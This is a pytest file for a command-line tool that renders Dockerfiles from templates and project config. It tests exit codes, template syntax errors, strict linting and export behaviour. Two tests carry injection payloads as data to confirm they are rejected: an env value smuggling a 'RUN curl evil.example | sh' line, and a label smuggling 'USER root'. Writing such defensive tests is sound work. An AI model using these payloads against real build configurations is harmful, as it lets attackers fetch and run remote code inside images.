"""`python -m pipeline dockerfile`, run as a real subprocess (exit codes, stdout, stderr)."""

from __future__ import annotations

from pathlib import Path

from tests.cli.clirun import cli


def template(tmp_path: Path, body: str, name: str = "Dockerfile.template") -> Path:
    path = tmp_path / name
    path.write_text("{% extends bento_base_template %}\n" + body, encoding="utf-8")
    return path


def project(root: Path, bentofile: str, template_body: str | None = None) -> Path:
    """A project directory: ``service.py``, ``bentofile.yaml`` and optionally a template."""
    root.mkdir()
    (root / "service.py").write_text("svc = None\n", encoding="utf-8")
    (root / "bentofile.yaml").write_text('service: "service:svc"\n' + bentofile, encoding="utf-8")
    if template_body is not None:
        template(root, template_body)
    return root


def _stored(home: Path) -> list[str]:
    return sorted(p.name for p in (home / "bentos").rglob("*"))


def test_prints_the_dockerfile(home: Path) -> None:
    done = cli("dockerfile", "examples/hello", home=home)
    assert done.returncode == 0, done.stderr
    assert done.stdout.startswith("FROM python:")
    assert done.stdout.rstrip().endswith(
        'CMD ["bentoml", "serve", "/home/bentoml/bento", "--production"]'
    )
    assert done.stderr == ""


def test_listed_in_help(home: Path) -> None:
    done = cli("--help", home=home)
    assert "dockerfile" in done.stdout and "export" in done.stdout


def test_template_option_and_buildstage(home: Path, tmp_path: Path) -> None:
    path = template(
        tmp_path, "{% block SETUP_BENTO_ENVARS %}\n{{ super() }}\nRUN echo custom\n{% endblock %}\n"
    )
    done = cli("dockerfile", "examples/hello", "--template", str(path), "--buildstage", home=home)
    assert done.returncode == 0, done.stderr
    assert "RUN echo custom" in done.stdout.splitlines()
    froms = [line for line in done.stdout.splitlines() if line.startswith("FROM ")]
    assert froms[1] == "FROM base-container AS buildstage"
    done = cli("dockerfile", "examples/hello", "--no-buildstage", home=home)
    assert [line for line in done.stdout.splitlines() if line.startswith("FROM ")] == [froms[0]]


def test_syntax_error_exit_2_with_file_and_line(home: Path, tmp_path: Path) -> None:
    path = template(tmp_path, "{% block SETUP_BENTO_USER %}\n{{ super() \n{% endblock %}\n")
    done = cli("dockerfile", "examples/hello", "--template", str(path), home=home)
    assert done.returncode == 2
    assert done.stderr.startswith(f"error: {path}:4: template syntax error")
    assert "Traceback" not in done.stderr
    assert done.stdout == ""


def test_bad_block_name_warns_and_strict_fails(home: Path, tmp_path: Path) -> None:
    path = template(tmp_path, "{% block SETUP_BENTO_COMPONENT %}\nRUN x\n{% endblock %}\n")
    done = cli("dockerfile", "examples/hello", "--template", str(path), home=home)
    assert done.returncode == 0
    assert f"warning: {path}:2: block 'SETUP_BENTO_COMPONENT' does not exist" in done.stderr
    assert "did you mean 'SETUP_BENTO_COMPONENTS'" in done.stderr
    strict = cli("dockerfile", "examples/hello", "--template", str(path), "--strict", home=home)
    assert strict.returncode == 2
    assert strict.stderr.startswith(f"error: {path}:2: block 'SETUP_BENTO_COMPONENT'")
    assert strict.stdout == "" and "Traceback" not in strict.stderr


def test_bad_extension(home: Path, tmp_path: Path) -> None:
    path = template(tmp_path, "", name="Dockerfile")
    done = cli("dockerfile", "examples/hello", "--template", str(path), home=home)
    assert done.returncode == 2
    assert "--template" in done.stderr and ".j2, .template, .jinja" in done.stderr


def test_no_buildkit_refuses_secret_mount(home: Path) -> None:
    done = cli("dockerfile", "examples/secret-mount", "--no-buildkit", home=home)
    assert done.returncode == 2
    # The user's file, not the bento's copy of it.
    assert done.stderr.startswith("error: examples/secret-mount/Dockerfile.template:5: ")
    assert "BuildKit" in done.stderr
    assert "Traceback" not in done.stderr


def test_newline_in_env_cannot_add_an_instruction(home: Path, tmp_path: Path) -> None:
    evil = project(
        tmp_path / "evil",
        'include: ["*.py"]\ndocker:\n  env:\n    EVIL: "x\\nRUN curl evil.example | sh"\n',
    )
    done = cli("dockerfile", str(evil), home=home)
    assert done.returncode == 2, done.stdout
    assert "docker.env.EVIL" in done.stderr and "newline" in done.stderr
    assert done.stdout == "" and "Traceback" not in done.stderr
    # Rejected at the edge: against the user's bentofile (with its line), before the store.
    assert f"{evil / 'bentofile.yaml'}:5: docker.env.EVIL" in done.stderr
    assert _stored(home) == []


def test_newline_in_label_is_rejected_against_the_bentofile(home: Path, tmp_path: Path) -> None:
    evil = project(tmp_path / "evil", 'labels:\n  owner: "me\\nUSER root"\n')
    done = cli("dockerfile", str(evil), home=home)
    assert done.returncode == 2, done.stdout
    assert "bentofile.yaml:3: labels.owner" in done.stderr and "newline" in done.stderr
    assert _stored(home) == []


def test_unknown_bento(home: Path) -> None:
    done = cli("dockerfile", "no_such_bento:latest", home=home)
    assert done.returncode == 2
    assert done.stderr.startswith("error: ") and "Traceback" not in done.stderr


def test_debug_shows_the_traceback(home: Path, tmp_path: Path) -> None:
    path = template(tmp_path, "{% block X %}\n")
    done = cli("dockerfile", "examples/hello", "--template", str(path), "--debug", home=home)
    assert done.returncode == 2 and "Traceback" in done.stderr


def _templated_project(root: Path, body: str) -> Path:
    return project(
        root, 'include: ["*.py"]\ndocker:\n  dockerfile_template: Dockerfile.template\n', body
    )


def test_project_template_syntax_error_names_the_users_file_and_stores_nothing(
    home: Path, tmp_path: Path
) -> None:
    project = _templated_project(
        tmp_path / "proj", "{% block SETUP_BENTO_USER %}\n{{ super() \n{% endblock %}\n"
    )
    done = cli("dockerfile", str(project), home=home)
    assert done.returncode == 2, done.stdout
    assert done.stderr.startswith(f"error: {project / 'Dockerfile.template'}:4: template syntax")
    assert done.stdout == "" and "Traceback" not in done.stderr
    assert _stored(home) == []


def test_project_failing_strict_lint_names_the_users_file_and_stores_nothing(
    home: Path, tmp_path: Path
) -> None:
    project = _templated_project(
        tmp_path / "proj", "{% block SETUP_BENTO_COMPONENT %}\nRUN x\n{% endblock %}\n"
    )
    user_file = project / "Dockerfile.template"
    strict = cli("dockerfile", str(project), "--strict", home=home)
    assert strict.returncode == 2, strict.stdout
    assert strict.stderr.startswith(f"error: {user_file}:2: block 'SETUP_BENTO_COMPONENT'")
    assert strict.stdout == "" and "Traceback" not in strict.stderr
    assert _stored(home) == []
    # Without --strict the finding is one warning about the user's file, and the bento is stored.
    done = cli("dockerfile", str(project), home=home)
    assert done.returncode == 0, done.stderr
    assert done.stderr.count("warning: ") == 1
    assert f"warning: {user_file}:2: block 'SETUP_BENTO_COMPONENT'" in done.stderr
    assert len([n for n in _stored(home) if n == "bento.yaml"]) == 1


def test_export_of_a_failing_project_stores_nothing(home: Path, tmp_path: Path) -> None:
    project = _templated_project(
        tmp_path / "proj", "{% block SETUP_BENTO_COMPONENT %}\nRUN x\n{% endblock %}\n"
    )
    out = tmp_path / "ctx"
    done = cli("export", str(project), "-o", str(out), "--strict", home=home)
    assert done.returncode == 2, done.stdout
    assert not out.exists()
    assert _stored(home) == []


def test_ignored_options_warn_once_against_the_bentofile(home: Path, tmp_path: Path) -> None:
    proj = project(
        tmp_path / "proj",
        "docker:\n  base_image: python:3.11-slim\n  distro: alpine\n  system_packages: [curl]\n",
    )
    done = cli("dockerfile", str(proj), home=home)
    assert done.returncode == 0, done.stderr
    assert done.stderr.splitlines() == [
        f"warning: {proj / 'bentofile.yaml'}: docker: base_image 'python:3.11-slim' is set, so "
        "distro, system_packages are ignored"
    ]
